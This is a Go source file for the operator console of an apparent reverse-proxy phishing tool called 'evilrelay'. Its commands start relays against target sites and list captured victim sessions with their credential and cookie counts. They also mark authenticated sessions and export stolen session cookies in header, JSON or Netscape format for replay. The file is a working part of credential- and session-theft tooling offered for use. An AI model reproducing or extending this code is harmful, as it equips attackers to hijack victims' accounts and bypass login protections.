package core

import (
	"encoding/json"
	"fmt"
	"io"
	"strconv"
	"strings"

	"github.com/chzyer/readline"
	"github.com/fatih/color"

	"github.com/evilrelay/evilrelay/log"
)

const PROMPT = ": "

type Terminal struct {
	rl    *readline.Instance
	relay *HttpRelay
	cfg   *Config
}

func NewTerminal(relay *HttpRelay, cfg *Config) (*Terminal, error) {
	t := &Terminal{
		relay: relay,
		cfg:   cfg,
	}

	var err error
	t.rl, err = readline.NewEx(&readline.Config{
		Prompt:              color.New(color.FgHiYellow).Sprint(PROMPT),
		AutoComplete:        t.completer(),
		InterruptPrompt:     "^C",
		EOFPrompt:           "exit",
		FuncFilterInputRune: filterInput,
	})
	if err != nil {
		return nil, err
	}
	return t, nil
}

func filterInput(r rune) (rune, bool) {
	if r == readline.CharCtrlZ {
		return r, false
	}
	return r, true
}

func (t *Terminal) completer() *readline.PrefixCompleter {
	return readline.NewPrefixCompleter(
		readline.PcItem("targets"),
		readline.PcItem("target"),
		readline.PcItem("start"),
		readline.PcItem("stop"),
		readline.PcItem("sessions"),
		readline.PcItem("session"),
		readline.PcItem("export"),
		readline.PcItem("delete",
			readline.PcItem("target"),
			readline.PcItem("session"),
		),
		readline.PcItem("stats"),
		readline.PcItem("debug",
			readline.PcItem("on"),
			readline.PcItem("off"),
		),
		readline.PcItem("help"),
		readline.PcItem("exit"),
	)
}

func (t *Terminal) Close() {
	t.rl.Close()
}

func (t *Terminal) DoWork() {
	for {
		line, err := t.rl.Readline()
		if err == readline.ErrInterrupt {
			if len(line) == 0 {
				break
			}
			continue
		} else if err == io.EOF {
			break
		}
		line = strings.TrimSpace(line)
		if line == "" {
			continue
		}
		args := strings.Fields(line)
		if err := t.handleCommand(args); err != nil {
			if err == io.EOF {
				break
			}
			log.Error("%v", err)
		}
	}
}

func (t *Terminal) handleCommand(args []string) error {
	switch args[0] {
	case "exit", "quit":
		return io.EOF
	case "help":
		t.printHelp()
	case "targets":
		t.printTargets()
	case "target":
		if len(args) < 2 {
			return fmt.Errorf("usage: target <id>")
		}
		return t.printTarget(args[1])
	case "start":
		if len(args) < 2 {
			return fmt.Errorf("usage: start <id> [port]")
		}
		port := 0
		if len(args) > 2 {
			p, err := strconv.Atoi(args[2])
			if err != nil {
				return fmt.Errorf("invalid port: %s", args[2])
			}
			port = p
		}
		_, err := t.relay.StartTarget(args[1], port)
		return err
	case "stop":
		if len(args) < 2 {
			return fmt.Errorf("usage: stop <id>")
		}
		_, err := t.relay.StopTarget(args[1])
		return err
	case "sessions":
		target_id := ""
		if len(args) > 1 {
			target_id = args[1]
		}
		t.printSessions(target_id)
	case "session":
		if len(args) < 2 {
			return fmt.Errorf("usage: session <id>")
		}
		return t.printSession(args[1])
	case "export":
		if len(args) < 3 {
			return fmt.Errorf("usage: export <session_id> <header|json|netscape>")
		}
		return t.exportSession(args[1], args[2])
	case "delete":
		if len(args) < 3 {
			return fmt.Errorf("usage: delete <target|session> <id>")
		}
		switch args[1] {
		case "target":
			return t.relay.RemoveTarget(args[2])
		case "session":
			return t.relay.Sessions.Delete(args[2])
		default:
			return fmt.Errorf("usage: delete <target|session> <id>")
		}
	case "stats":
		t.printStats()
	case "debug":
		if len(args) < 2 {
			return fmt.Errorf("usage: debug <on|off>")
		}
		enable := args[1] == "on"
		log.DebugEnable(enable)
		log.Info("debug output: %v", enable)
	default:
		return fmt.Errorf("unknown command: %s", args[0])
	}
	return nil
}

func (t *Terminal) printHelp() {
	log.Printf("\n targets                     - list registered targets\n")
	log.Printf(" target <id>                 - show target details\n")
	log.Printf(" start <id> [port]           - start relaying a target\n")
	log.Printf(" stop <id>                   - stop relaying a target\n")
	log.Printf(" sessions [target]           - list captured sessions\n")
	log.Printf(" session <id>                - show session details\n")
	log.Printf(" export <id> <format>        - export session cookies (header, json, netscape)\n")
	log.Printf(" delete target <id>          - remove a stopped target\n")
	log.Printf(" delete session <id>         - drop a captured session\n")
	log.Printf(" stats                       - relay statistics\n")
	log.Printf(" debug <on|off>              - toggle debug output\n")
	log.Printf(" exit                        - quit\n\n")
}

func (t *Terminal) printTargets() {
	targets := t.relay.Targets.List()
	if len(targets) == 0 {
		log.Info("no targets registered")
		return
	}
	higreen := color.New(color.FgHiGreen)
	hired := color.New(color.FgHiRed)
	for _, tg := range targets {
		state := hired.Sprint("stopped")
		if tg.IsActive {
			state = higreen.Sprint("active")
		}
		log.Printf(" %-12s %-28s %s\n", tg.Id, tg.TargetHost, state)
	}
}

func (t *Terminal) printTarget(id string) error {
	tg, err := t.relay.Targets.Lookup(id)
	if err != nil {
		return err
	}
	log.Printf("\n id            : %s\n", tg.Id)
	log.Printf(" name          : %s\n", tg.Name)
	log.Printf(" target        : %s\n", tg.BaseURL())
	log.Printf(" proxy domains : %s\n", strings.Join(tg.ProxyDomains, ", "))
	log.Printf(" capture       : %s\n", strings.Join(tg.CaptureFields, ", "))
	log.Printf(" auth tokens   : %s\n", strings.Join(tg.AuthTokens, ", "))
	log.Printf(" auth urls     : %s\n", strings.Join(tg.AuthUrls, ", "))
	log.Printf(" active        : %v\n\n", tg.IsActive)
	return nil
}

func (t *Terminal) printSessions(target_id string) {
	sessions := t.relay.Sessions.List(target_id)
	if len(sessions) == 0 {
		log.Info("no sessions captured")
		return
	}
	for _, s := range sessions {
		auth := ""
		if s.IsAuthenticated() {
			auth = color.New(color.FgHiGreen).Sprint(" [authenticated]")
		}
		log.Printf(" %s  %-12s %-16s creds:%d cookies:%d%s\n",
			truncateString(s.Id, 8), s.TargetId, s.RemoteAddr, s.CredentialCount(), s.CookieCount(), auth)
	}
}

func (t *Terminal) printSession(id string) error {
	s, err := t.findSession(id)
	if err != nil {
		return err
	}
	out, err := json.MarshalIndent(s, "", "  ")
	if err != nil {
		return err
	}
	log.Printf("%s\n", out)
	return nil
}

func (t *Terminal) exportSession(id string, format string) error {
	s, err := t.findSession(id)
	if err != nil {
		return err
	}
	tg, err := t.relay.Targets.Lookup(s.TargetId)
	if err != nil {
		return err
	}
	out, err := ExportSession(s, tg, format)
	if err != nil {
		return err
	}
	log.Printf("%s\n", out)
	return nil
}

// findSession accepts a full session id or the 8-char prefix the listing
// prints.
func (t *Terminal) findSession(id string) (*Session, error) {
	if s, err := t.relay.Sessions.Get(id); err == nil {
		return s, nil
	}
	for _, s := range t.relay.Sessions.List("") {
		if strings.HasPrefix(s.Id, id) {
			return s, nil
		}
	}
	return nil, fmt.Errorf("%w: %s", ErrSessionNotFound, id)
}

func (t *Terminal) printStats() {
	st := t.relay.Stats()
	log.Printf("\n targets        : %d (%d active)\n", st.Targets, st.ActiveTargets)
	log.Printf(" sessions       : %d (%d authenticated)\n", st.Sessions, st.Authenticated)
	log.Printf(" credentials    : %d\n", st.CapturedCreds)
	log.Printf(" cookies        : %d\n", st.CapturedCookies)
	log.Printf(" cached pages   : %d\n\n", st.CachedPages)
}
